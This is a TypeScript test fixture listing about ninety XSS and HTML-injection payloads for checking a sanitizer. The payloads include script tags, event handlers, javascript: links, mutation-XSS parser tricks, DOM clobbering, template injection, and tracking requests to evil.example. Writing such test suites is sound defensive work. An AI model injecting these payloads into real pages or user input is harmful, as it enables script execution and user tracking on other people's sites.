/**
 * Ways in which markup attacks the page that shows it; one of each class, each named for what it tries.
 *
 * All of them call `hit()`, so that a test can see whether any came through.
 */
export const attacks: Readonly<Record<string, string>> = {
  // What every list forgets least.
  'a script': '<script>hit()</script>',
  'a script with an address': '<script src="data:text/javascript,hit()"></script>',
  'a script in SVG': '<svg><script>hit()</script></svg>',
  'a script in capitals, broken over lines': '<SCRIPT\n>hit()</SCRIPT\n>',
  'a script inside a script': '<scr<script>ipt>hit()</scr</script>ipt>',
  'a script that never ends': '<script>hit()',

  // Handlers: any element, any separator between attributes.
  'a picture that fails': '<img src=x onerror=hit()>',
  'a handler behind a slash': '<img/src=x/onerror=hit()>',
  'a handler behind a form feed': '<img\fsrc=x\fonerror=hit()>',
  'a handler in quotes that close early': '<img title="a"onerror=hit() src="x">',
  'a handler with blanks around the sign': '<img src=x onerror = "hit()">',
  'a handler in character references': '<img src=x onerror="&#104;&#105;&#116;&#40;&#41;">',
  'a focus that comes by itself': '<input autofocus onfocus=hit()>',
  'a focus by any element': '<p tabindex=1 autofocus onfocus=hit()>x</p>',
  'a details that opens': '<details open ontoggle=hit()><summary>x</summary></details>',
  'a video that fails': '<video><source onerror=hit()></video>',
  'an audio that fails': '<audio src=x onerror=hit()></audio>',
  'an animation that begins': '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  'a body that loads': '<body onload=hit()>',
  'an SVG that loads': '<svg onload=hit()>',
  'a style that loads': '<style onload=hit()></style>',
  'a marquee': '<marquee onstart=hit()>x</marquee>',
  'a popover': '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hit()>x</div>',
  'content that becomes visible': '<p oncontentvisibilityautostatechange=hit() style=content-visibility:auto>x</p>',
  'a click': '<p onclick=hit()>x</p>',

  // Addresses: a browser drops tabs, newlines and control characters from a scheme before it follows it.
  'a link to a script': '<a href="javascript:hit()">x</a>',
  'a link with a tab in its scheme': '<a href="java\tscript:hit()">x</a>',
  'a link with a newline reference in its scheme': '<a href="java&NewLine;script:hit()">x</a>',
  'a link with references for its letters': '<a href="&#106;avascript&colon;hit()">x</a>',
  'a link with a control character before it': '<a href="\u0001javascript:hit()">x</a>',
  'a link in capitals': '<a href="JaVaScRiPt:hit()">x</a>',
  'a link to a page in itself': '<a href="data:text/html,<script>parent.hit()</script>">x</a>',
  'a link to old script': '<a href="vbscript:hit()">x</a>',
  'a link to a blob': '<a href="blob:https://example.com/1">x</a>',
  'a link that hides its host': '<a href="https://example.com@evil.example/">x</a>',
  'a link of another language': '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  'a link of a formula': '<math><mi href="javascript:hit()">x</mi></math>',
  'a link that an animation makes':
    '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>',
  'a form that goes elsewhere': '<form action="javascript:hit()"><button>x</button></form>',
  'a button that goes elsewhere': '<form><button formaction="javascript:hit()">x</button></form>',
  'an area of a map': '<map name=m><area href="javascript:hit()" shape=default></map><img usemap=#m>',

  // Pages in the page.
  'a frame of script': '<iframe src="javascript:parent.hit()"></iframe>',
  'a frame with a page in it': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'an object': '<object data="javascript:parent.hit()"></object>',
  'an embed': '<embed src="javascript:parent.hit()">',
  'a page that moves': '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  'a base for all addresses': '<base href="javascript:hit()//">',

  // One parse is not the next: what is text to one is an element to another (mutation).
  'a formula that changes its namespace':
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit()>">',
  'a form in a form': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  'a style in SVG': '<svg><style><img src=x onerror=hit()></style></svg>',
  'a title that holds its end': '<svg><title><p title="</title><img src=x onerror=hit()>">',
  'a noscript that holds its end': '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  'an xmp that holds its end': '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>',
  'a textarea that holds its end': '<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>',
  'a comment that ends early': '<!--><img src=x onerror=hit()>-->',
  'a comment that ends by another sign': '<!-- --!><img src=x onerror=hit()>-->',
  'a section of character data': '<svg><![CDATA[><img src=x onerror=hit()>]]></svg>',
  'a processing instruction': '<?xml ><img src=x onerror=hit()>?>',
  'foreign content and back': '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  'annotations of a formula':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  'a table that puts its content before itself': '<table><img src=x onerror=hit()><tr><td>x</td></tr></table>',
  'a select that closes itself': '<select><img src=x onerror=hit()></select>',
  'nesting that a parser flattens': `${'<div>'.repeat(520)}<img src=x onerror=hit()>`,
  'nesting of what formats': `${'<b><a>'.repeat(300)}<img src=x onerror=hit()>`,
  'escaped once': '&lt;img src=x onerror=hit()&gt;',
  'escaped twice': '&amp;lt;img src=x onerror=hit()&amp;gt;',
  'an attribute that holds markup': '<p title="<img src=x onerror=hit()>">x</p>',
  'a quote of another kind': '<img src=`x`onerror=hit()>',
  'a null in the name': '<scr\u0000ipt>hit()</scr\u0000ipt><img \u0000onerror=hit() src=x>',

  // Elements that come to life, or carry others.
  'a template': '<template><img src=x onerror=hit()></template>',
  'a shadow root': '<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>',
  'an element of the page': '<job-posting src="data:application/json,{}"></job-posting>',
  'an element made of another': '<button is="job-button" onclick=hit()>x</button>',

  // Names that stand in the place of what a page asks for.
  'a name of the document': '<img name=createElement><form id=body><input name=attributes></form>',
  'a name of ours': '<p id=title part="title button">x</p><slot name=header></slot>',

  // What needs no script to do harm: a request that tells who reads, a cover over the page, a look of its own.
  'a picture that counts': '<img src="https://evil.example/count.gif">',
  'a picture in a set': '<picture><source srcset="https://evil.example/count.gif"><img></picture>',
  'a style that asks': '<p style="background:url(https://evil.example/count.gif)">x</p>',
  'a sheet of styles': '<style>@import "https://evil.example/a.css"; * {display: none}</style>',
  'a link to a sheet': '<link rel=stylesheet href="https://evil.example/a.css">',
  'a look ahead': '<link rel=prefetch href="https://evil.example/a">',
  'a cover over the page': '<div style="position:fixed;inset:0;z-index:99999" class="root button">x</div>',
  'a ping': '<a href="https://example.com/" ping="https://evil.example/">x</a>',
  'a poster': '<video poster="https://evil.example/count.gif"></video>',
  'an old background': '<table background="https://evil.example/count.gif"><tr><td>x</td></tr></table>',

  // Where words are put into a template, an attribute, or another language.
  'a binding of a template': '${hit()} {{constructor.constructor("hit()")()}} <%= hit() %>',
  'the end of an attribute': '"><img src=x onerror=hit()>',
  'the end of an attribute, the other quote': "'><img src=x onerror=hit()>",
  'the end of a script': '</script><script>hit()</script>',
  'a marker of Lit': '<!--?lit$123$--><?lit$123$><img src=x onerror=hit()>',
  'an address alone': 'javascript:hit()',
  'an address behind blanks': ' \u0001 java\nscript:hit()',
  'a protocol of data alone': 'data:text/html,<script>parent.hit()</script>',
};
